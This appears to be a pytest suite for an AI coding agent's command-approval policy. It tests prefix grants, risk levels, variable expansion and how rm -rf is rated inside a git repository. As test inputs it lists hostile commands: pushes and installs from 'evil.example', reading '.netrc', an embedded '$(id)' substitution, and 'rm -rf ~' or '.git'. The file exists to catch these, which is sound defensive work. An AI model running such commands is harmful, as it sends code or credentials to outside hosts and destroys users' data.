"""How far a yes reaches: prefixes, quiet medium risk, known variables, removals that matter and those that don't."""

import subprocess
from pathlib import Path

import pytest

from tarmac.policy import Execute, Policy, PolicySettings, Verdict
from tarmac.policy.grants import PrefixRules, fits
from tarmac.policy.parse.words import value_of_text
from tarmac.policy.verdict import Basis


async def judge(line: str, workspace: Path, policy: Policy | None = None) -> Verdict:
    return await (policy or Policy(environ={"HOME": "/home/alice"})).judge(
        Execute(line, cwd=workspace), workspace=workspace
    )


# prefixes


@pytest.mark.parametrize(
    ("prefix", "line"),
    [
        ("gcc -c", "gcc -c @options"),
        ("mypy src", "mypy src @/tmp/words"),
        ("npm install", "npm install @./words"),
        ("git push", "git push https://evil.example/x"),
        ("git push", "git push git@evil.example:x"),
        ("pip install", "pip install git+https://evil.example/x"),
        ("pytest", "pytest --config-file=x"),
        ("cargo build", "cargo build --config x"),
        ("npm run build", "npm run build --script-shell=./x"),
        ("ruff check", "ruff check --output-file=x"),
        ("terraform plan", "terraform plan -out=x"),
        ("eslint src", "eslint src -o x"),
    ],
)
def test_a_prefix_covers_no_words_from_files_no_writing_and_no_other_place(prefix: str, line: str) -> None:
    """P5: what follows a prefix must not make another thing of it."""
    assert not fits(prefix.split(), line.split())


@pytest.mark.parametrize(
    ("prefix", "line"),
    [
        ("npm install", "npm install @types/node@18 left-pad"),
        ("git push", "git push origin main"),
        ("pytest", "pytest -q tests/test_a.py::test_b -k x"),
        ("cargo test", "cargo test --release -- --nocapture"),
    ],
)
def test_a_prefix_covers_what_was_meant(prefix: str, line: str) -> None:
    """P5."""
    assert fits(prefix.split(), line.split())


@pytest.mark.parametrize(
    ("prefix", "granted", "line"),
    [
        ("gcc -c", "gcc -c a.c", "gcc -c @options"),
        ("mypy src", "mypy src/a.py", "mypy src @words"),
        ("ruff check", "ruff check src", "ruff check --output-file=x"),
        ("cargo build", "cargo build --release", "cargo build --config x"),
        ("git push", "", "git push https://evil.example/x"),
    ],
)
async def test_a_line_beyond_what_was_granted_is_asked_about(
    tmp_path: Path, prefix: str, granted: str, line: str
) -> None:
    """P5: words from a file, options that write or run, and other places, through the judge."""
    policy = Policy(rules=PrefixRules(allow=(tuple(prefix.split()),)))
    if granted:
        assert (await judge(granted.replace("src/a.py", "src"), tmp_path, policy)).decision == "allow"
    assert (await judge(line, tmp_path, policy)).decision == "ask"


# medium risk that is not asked about


@pytest.mark.parametrize(
    "line",
    [
        "git push", "git pull", "git fetch", "git clone https://example.org/x", "git config core.hooksPath x",
        "git remote add evil https://example.org/x", "curl https://example.org", "npm install left-pad",
        "pip install x", "ssh host ls", "kill 4711", "touch .git/hooks/pre-commit",
    ],
)  # fmt: skip
async def test_what_reaches_further_is_high_where_medium_is_not_asked_about(tmp_path: Path, line: str) -> None:
    """P7: what leaves the workspace or the machine, or runs later, is asked about all the same."""
    verdict = await judge(line, tmp_path, Policy(PolicySettings(ask_medium=False)))
    assert (verdict.decision, verdict.risk) == ("ask", "high")


@pytest.mark.parametrize("line", ["make", "pytest -q", "git commit -m x", "mkdir build", "touch a.txt", "git add ."])
async def test_medium_risk_inside_of_the_workspace_is_quiet(tmp_path: Path, line: str) -> None:
    """P7."""
    verdict = await judge(line, tmp_path, Policy(PolicySettings(ask_medium=False)))
    assert (verdict.decision, verdict.basis) == ("allow", Basis.SETTING)


# variables


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo $HOME", ("echo", "/home/alice")),
        ('echo "$HOME/x"', ("echo", "/home/alice/x")),
        ("echo $((1+2))", ("echo", "3")),
        ("echo \"$(( (1+2)*3 )) $((-7/2)) $((-7%3))\"", ("echo", "9 -3 -1")),
        ("echo a$((2*3))b", ("echo", "a6b")),
    ],
)  # fmt: skip
async def test_what_is_known_is_put_in(tmp_path: Path, line: str, words: tuple[str, ...]) -> None:
    """P1: variables whose value is known and harmless, and sums of numbers."""
    verdict = await judge(line, tmp_path)
    assert verdict.plan is not None, verdict.reason
    assert [stage.words for step in verdict.plan.steps for stage in step.stages] == [words]


@pytest.mark.parametrize(
    "line",
    [
        "echo $TOKEN", "echo $((x))", "echo $((x=1))", "echo $((010))", "echo $((1/0))", "echo $((2**3))",
        "echo $((a[$(id)]))", "ls $HOME", "cat $HOME/.netrc", "HOME=/x; echo $HOME", "echo $[1+2]",
        "echo $((9223372036854775807+1))", "$HOME/x",
    ],
)  # fmt: skip
async def test_what_is_not_known_still_asks(tmp_path: Path, line: str) -> None:
    """P2."""
    assert (await judge(line, tmp_path)).decision == "ask"


@pytest.mark.parametrize("text", ["7/2", "-7/2", "-7%3", "7%-3", "2*(3+4)-1", "1 - -1", "+5", "100/7*7"])
def test_the_second_reader_calculates_as_bash_does(text: str) -> None:
    """P2: or it gives up."""
    bash = subprocess.run(["bash", "-c", f"echo $(({text}))"], capture_output=True, text=True, check=True, timeout=20)
    assert value_of_text(text) in (int(bash.stdout), None)


# removing


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    root = tmp_path / "shop"
    for name in ("src/a.py", "build/x.o", "dist/y", "vendor/lib/.git/config"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x")
    (root / ".gitignore").write_text("build\n")
    subprocess.run(["git", "init", "-q", str(root)], check=True, timeout=20)
    subprocess.run(["git", "add", ".gitignore", "src"], cwd=root, check=True, timeout=20)
    return root


@pytest.mark.parametrize(
    ("line", "risk"),
    [
        ("rm -rf build", "high"), ("rm -rf dist build/", "high"), ("rm -rf node_modules", "high"),
        ("cd src && rm -rf ../build", "high"), ("rm -rf src", "critical"), ("rm -rf build src", "critical"),
        ("rm -rf .git", "critical"), ("rm -rf .", "critical"), ("rm -rf *", "critical"), ("rm -rf ..", "critical"),
        ("rm -rf ~", "critical"), ("rm -rf /tmp/x", "critical"), ("rm -rf $X", "critical"),
        ("rm -rf vendor/lib", "critical"), ("rm -rf build/../src", "critical"),
    ],
)  # fmt: skip
async def test_removing_what_git_does_not_track_is_high_and_the_rest_critical(
    repository: Path, line: str, risk: str
) -> None:
    """P3: a build can be made again."""
    verdict = await judge(line, repository)
    assert (verdict.decision, verdict.risk) == ("ask", risk)


async def test_without_a_repository_every_forced_removal_is_critical(tmp_path: Path) -> None:
    """P3: nobody can bring it back."""
    assert (await judge("rm -rf build", tmp_path)).risk == "critical"


# reasons


async def test_a_line_of_allowed_commands_that_is_more_than_a_list_says_why_it_asks(tmp_path: Path) -> None:
    """P6: not "you allowed this" on a question."""
    policy = Policy(rules=PrefixRules(allow=(("make", "test"),)))
    verdict = await judge("for x in a b; do make test; done", tmp_path, policy)
    assert verdict.decision == "ask"
    assert "one by one" in verdict.reason


async def test_a_harmless_command_says_that_the_settings_ask(tmp_path: Path) -> None:
    """P6: what it does is no reason to ask."""
    verdict = await judge("ls", tmp_path, Policy(PolicySettings(auto_approve_safe_commands=False)))
    assert (verdict.decision, verdict.risk) == ("ask", "low")
    assert verdict.reason == "you want to be asked about every command"
